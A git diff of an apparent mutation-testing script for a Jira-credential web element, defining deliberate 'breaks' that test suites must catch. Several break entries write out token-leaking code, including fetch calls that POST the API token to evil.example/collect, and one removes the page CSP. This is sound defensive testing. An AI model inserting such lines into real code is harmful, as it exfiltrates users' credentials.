@@ -15,14 +15,16 @@ import path from 'node:path';
 import { spawnSync } from 'node:child_process';
 import { fileURLToPath } from 'node:url';
 
-import { elementForPkg } from '../../scripts/build-element.mjs';
+import { buildElement } from '../../scripts/build-element.mjs';
 
 const HERE = path.dirname(fileURLToPath(import.meta.url));
 const ROOT = path.resolve(HERE, '../..');
 const WWW = path.join(ROOT, 'www');
-// Breaks edit the readable source; the pages load the built copy in pkg/, which is then made from
-// the broken source (unminified: what it does is the same).
-const ELEMENT = 'tines-jira-credential.js';
+// Breaks edit the readable sources (the element's modules in element/); the pages load the bundle
+// in pkg/, which is then built from the broken sources (unminified: what it does is the same).
+const SHELL = 'element/element.js';
+const CHECK = 'element/check.js';
+const OUTPUTS = 'element/outputs.js';
 const GLUE = 'pkg/tines_jira_credential.js';
 
 const VERIFY_ANCHOR = '    let verification;\n';
@@ -32,51 +34,51 @@ const UPDATE_ANCHOR = '    const report = api.buildCredential(inputs);\n';
 const BREAKS = {
   'log-token': {
     what: 'the element logs the token (console.log) when the check starts',
-    edits: [{ file: ELEMENT, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    console.log('checking', f.email.value, f.token.value);\n` }],
+    edits: [{ file: CHECK, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    console.log('checking', f.email.value, f.token.value);\n` }],
   },
   'log-auth': {
     what: 'the element logs the Basic auth value (base64 of email:token), not the raw token',
-    edits: [{ file: ELEMENT, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    console.debug('auth', btoa(f.email.value + ':' + f.token.value));\n` }],
+    edits: [{ file: CHECK, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    console.debug('auth', btoa(f.email.value + ':' + f.token.value));\n` }],
   },
   'store-field': {
     what: 'the element remembers the site in localStorage (a field, not even the token)',
-    edits: [{ file: ELEMENT, find: UPDATE_ANCHOR, replace: `${UPDATE_ANCHOR}    localStorage.setItem('tjc-site', this.#el.site.value);\n` }],
+    edits: [{ file: SHELL, find: UPDATE_ANCHOR, replace: `${UPDATE_ANCHOR}    localStorage.setItem('tjc-site', this.#el.site.value);\n` }],
   },
   'store-token-session': {
     what: 'the element keeps the token in sessionStorage, by property assignment (no setItem call)',
-    edits: [{ file: ELEMENT, find: UPDATE_ANCHOR, replace: `${UPDATE_ANCHOR}    if (report.fields.token.ok) sessionStorage.tjcToken = report.fields.token.value;\n` }],
+    edits: [{ file: SHELL, find: UPDATE_ANCHOR, replace: `${UPDATE_ANCHOR}    if (report.fields.token.ok) sessionStorage.tjcToken = report.fields.token.value;\n` }],
   },
   'cookie-token': {
     what: 'the element puts the token in a cookie',
-    edits: [{ file: ELEMENT, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    document.cookie = 'tjc=' + encodeURIComponent(f.token.value);\n` }],
+    edits: [{ file: CHECK, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    document.cookie = 'tjc=' + encodeURIComponent(f.token.value);\n` }],
   },
   'send-evil': {
     what: 'the element sends the token to another host (evil.example, outside the CSP)',
-    edits: [{ file: ELEMENT, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    fetch('https://evil.example/collect', { method: 'POST', mode: 'no-cors', body: f.token.value }).catch(() => {});\n` }],
+    edits: [{ file: CHECK, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    fetch('https://evil.example/collect', { method: 'POST', mode: 'no-cors', body: f.token.value }).catch(() => {});\n` }],
   },
   'send-evil-no-csp': {
     what: 'the token goes to evil.example and the pages lose their CSP (so only the token-path checks stand in the way)',
     edits: [
-      { file: ELEMENT, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    fetch('https://evil.example/collect', { method: 'POST', mode: 'no-cors', body: f.token.value }).catch(() => {});\n` },
+      { file: CHECK, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    fetch('https://evil.example/collect', { method: 'POST', mode: 'no-cors', body: f.token.value }).catch(() => {});\n` },
       { file: 'index.html', find: /\n\s*<meta http-equiv="Content-Security-Policy"[^>]*>/, replace: '' },
       { file: 'embed.html', find: /\n\s*<meta http-equiv="Content-Security-Policy"[^>]*>/, replace: '' },
     ],
   },
   'send-other-atlassian': {
     what: 'the element sends the token to another Atlassian host the CSP allows (in the URL)',
-    edits: [{ file: ELEMENT, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    fetch('https://collector.atlassian.net/t?k=' + f.token.value, { mode: 'no-cors', credentials: 'omit' }).catch(() => {});\n` }],
+    edits: [{ file: CHECK, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    fetch('https://collector.atlassian.net/t?k=' + f.token.value, { mode: 'no-cors', credentials: 'omit' }).catch(() => {});\n` }],
   },
   'send-gateway-header': {
     what: 'the element also sends Basic auth to api.atlassian.com on the site route',
-    edits: [{ file: ELEMENT, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    fetch('https://api.atlassian.com/me', { headers: { Authorization: 'Basic ' + btoa(f.email.value + ':' + f.token.value) } }).catch(() => {});\n` }],
+    edits: [{ file: CHECK, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    fetch('https://api.atlassian.com/me', { headers: { Authorization: 'Basic ' + btoa(f.email.value + ':' + f.token.value) } }).catch(() => {});\n` }],
   },
   'token-in-markup': {
     what: 'the element mirrors the token into an attribute',
-    edits: [{ file: ELEMENT, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    this.#el.result.setAttribute('data-token', f.token.value);\n` }],
+    edits: [{ file: CHECK, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    this.#el.result.setAttribute('data-token', f.token.value);\n` }],
   },
   'token-in-metadata-copy': {
     what: 'the Metadata output (shown and copied) also carries the token',
-    edits: [{ file: ELEMENT, find: '      metadata: o.metadataJson,\n', replace: "      metadata: o.metadataJson.replace('\\n}', `,\\n  \"token\": \"${o.value}\"\\n}`),\n" }],
+    edits: [{ file: OUTPUTS, find: '      metadata: o.metadataJson,\n', replace: "      metadata: o.metadataJson.replace('\\n}', `,\\n  \"token\": \"${o.value}\"\\n}`),\n" }],
   },
   'credentials-include': {
     // The wasm's own RequestInit setters live in the generated glue (www/pkg), so these breaks are
@@ -94,7 +96,7 @@ const BREAKS = {
   },
   'inline-style': {
     what: 'the element sets an inline style (refused by the CSP)',
-    edits: [{ file: ELEMENT, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    this.#el.result.setAttribute('style', 'outline: 1px solid red');\n` }],
+    edits: [{ file: CHECK, find: VERIFY_ANCHOR, replace: `${VERIFY_ANCHOR}    this.#el.result.setAttribute('style', 'outline: 1px solid red');\n` }],
   },
 };
 
@@ -113,7 +115,7 @@ function copyWww() {
   return dir;
 }
 
-function apply(dir, edits) {
+async function apply(dir, edits) {
   for (const { file, find, replace } of edits) {
     const p = path.join(dir, file);
     const text = fs.readFileSync(p, 'utf8');
@@ -122,8 +124,8 @@ function apply(dir, edits) {
     // A RegExp anchor may use $1 in its replacement (the glue is minified: names vary by build).
     fs.writeFileSync(p, find instanceof RegExp ? text.replace(find, replace) : text.replace(find, () => replace));
   }
-  if (edits.some((e) => e.file === ELEMENT)) {
-    fs.writeFileSync(path.join(dir, 'pkg', ELEMENT), elementForPkg(fs.readFileSync(path.join(dir, ELEMENT), 'utf8')));
+  if (edits.some((e) => e.file.startsWith('element/'))) {
+    await buildElement({ dev: true, www: dir });
   }
 }
 
@@ -184,7 +186,7 @@ for (const name of names) {
   const brk = BREAKS[name];
   const dir = copyWww();
   try {
-    apply(dir, brk.edits);
+    await apply(dir, brk.edits);
     const started = Date.now();
     const run = runSuites(dir);
     const failed = run.failed;
